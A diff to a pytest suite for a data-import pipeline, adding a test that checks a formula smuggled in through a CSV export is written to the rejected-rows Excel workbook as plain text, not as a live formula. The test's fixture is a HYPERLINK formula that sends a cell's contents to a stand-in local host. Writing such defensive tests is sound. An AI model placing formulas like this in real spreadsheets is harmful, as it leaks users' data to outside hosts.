@@ -9,7 +9,7 @@ import openpyxl
 import polars as pl
 import pytest
 
-from etl.pipeline.checks import run_checks
+from etl.pipeline.checks import CheckReport, run_checks
 from etl.pipeline.load import check
 from etl.pipeline.normalise import normalise
 from etl.pipeline.read import read_export
@@ -149,3 +149,25 @@ def test_data_docs_pages_carry_the_batch_name(tmp_path: Path) -> None:
     docs = write_data_docs("one-file", report, tmp_path)
     assert [p.name for p in docs.pages] == ["enc_utf8.csv.html", "本次导入合计.html"]
     assert pl.Series([p.exists() for p in docs.pages]).all()
+
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/fix?"&A1;"点此修正")'
+
+
+def test_a_formula_sent_in_an_export_comes_back_as_text(tmp_path: Path) -> None:
+    """In the rows to fix and in the 提醒 sheet alike: a string cell, never a live formula."""
+    source = tmp_path / "湖南_申报表.csv"
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    source.write_text(f"{HEADER}\n{GOOD}\n{SPACED.replace('案例乙', quoted)}\n")
+    run = check([source], tmp_path / "none.duckdb", progress=False)
+    issues = run.report.issues
+    warning = issues.head(1).with_columns(
+        pl.lit("warning").alias("severity"), pl.lit(FORMULA).alias("value")
+    )
+    report = CheckReport(pl.concat([issues, warning]), run.report.results)
+    tables = [f.table for f in run.files]
+    book = openpyxl.load_workbook(write_rejected_xlsx(tmp_path / "问题行.xlsx", report, tables))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    ours = [c for c in cells if c.value == FORMULA]
+    assert sorted(c.parent.title for c in ours) == ["提醒", "湖南_申报表"]
+    assert {c.data_type for c in ours} == {"s"}
